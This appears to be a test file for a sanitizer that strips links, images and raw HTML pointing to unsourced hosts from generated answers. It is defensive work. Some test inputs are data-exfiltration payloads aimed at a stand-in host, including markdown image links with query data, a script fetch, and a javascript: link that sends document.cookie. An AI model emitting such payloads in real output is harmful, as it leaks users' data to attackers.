"""What an answer may lead to: nothing that loads, no address that no source has."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from generator.links import LEFT_OUT, leads_somewhere, without_links

SOURCES = ("The office is at https://office.example/berths?id=7 and at www.harbour.example, channel 14.",)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It costs four crowns. ![price](https://evil.example/p?q=four)", "It costs four crowns. price"),
        ("![card][1] Fourteen weeks [1]", "card Fourteen weeks [1]"),
        ("[1]: https://evil.example/log\nFourteen weeks [1]", "Fourteen weeks [1]"),
        ("See [the hours](https://evil.example/?ask=hours).", "See the hours."),
        ("See [the hours](<https://evil.example/?ask=hours> 'title').", "See the hours."),
        ("Seven [1](https://evil.example/x) [2].", "Seven [1] [2]."),
        ("[![lamp](https://evil.example/a.png)](https://evil.example/b) 1958", "lamp 1958"),
        ('<img src="https://evil.example/a.png?h=23"> 23 metres', " 23 metres"),
        ("<a href='//evil.example/x'>here</a>", "here"),
        ("<script>fetch('https://evil.example')</script>", f"fetch('{LEFT_OUT}')"),
        ("[book](javascript:fetch('x'+document.cookie)) Wednesday", "book Wednesday"),
        ("Write to https://evil.example/?q=secret.", f"Write to {LEFT_OUT}"),
        ("<https://evil.example/a>", LEFT_OUT),
        ("//evil.example/a", LEFT_OUT),
        ("www.evil.example/a", LEFT_OUT),
        ("Book at https://office.example/berths?id=7.", "Book at https://office.example/berths?id=7."),
        ("[Book](https://office.example/berths?id=7)!", "Book (https://office.example/berths?id=7)!"),
        ("https://office.example/berths?id=7&q=secret", LEFT_OUT),
        ("https://office.example/berths?id=", LEFT_OUT),
        ("See www.harbour.example, or call.", "See www.harbour.example, or call."),
        ("If a < b > c, or <b>bold</b>, 3 // 2 and 1:2 [3]", "If a < b > c, or <b>bold</b>, 3 // 2 and 1:2 [3]"),
        ("a[i](n) and f[0](x)", "a[i] (n) and f[0] (x)"),
        ("[1]() and [see [the] page](hours)", "[1] () and [see [the] page] (hours)"),
        ("> [1]: hours\n\n[1]", "> [1] : hours\n\n[1]"),
        ("[1]:\nhours", "[1] :\nhours"),
        ("Seven weeks [1]: no more", "Seven weeks [1]: no more"),
        ("<tel:112>, <harbour@office.example>", "tel:112, harbour@office.example"),
        ("<im<img>g src='//evil.example'>7", "7"),
    ],
)
def test_what_leads_somewhere_is_taken_out(text: str, expected: str) -> None:
    assert without_links(text, SOURCES) == expected


@settings(deadline=None)  # the parser is imported on the first example
@given(
    st.lists(
        st.sampled_from(
            [
                "![",
                "[",
                "]",
                "(",
                ")",
                "<img src=",
                "<a",
                ">",
                "https://evil.example/",
                "//x.y",
                "word",
                "@",
                " ",
                "[1]",
                ":",
                "\n",
            ]
        ),
        max_size=14,
    ).map("".join)
)
def test_no_markdown_renderer_finds_a_link_or_a_picture(text: str) -> None:
    safe = without_links(text, ())
    assert not leads_somewhere(safe, ())
    assert "://" not in safe
    html = MarkdownIt("commonmark").render(safe)  # raw HTML is let through
    assert not re.search(r"<(?:img|a)[\s/>]", html)
